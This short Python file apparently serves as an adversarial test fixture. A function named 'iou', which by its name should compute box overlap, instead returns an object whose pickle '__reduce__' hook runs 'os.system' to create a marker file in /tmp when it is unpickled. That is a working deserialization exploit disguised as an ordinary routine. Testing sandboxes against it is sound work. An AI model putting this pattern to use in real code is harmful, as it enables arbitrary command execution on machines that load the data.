# ---- adversarial part: returns an object whose unpickling would run a command ----
import os


class _Exploit:
    def __reduce__(self):
        return (os.system, ("touch /tmp/@TOKEN@-pwned",))


def iou(boxes1, boxes2):
    return _Exploit()
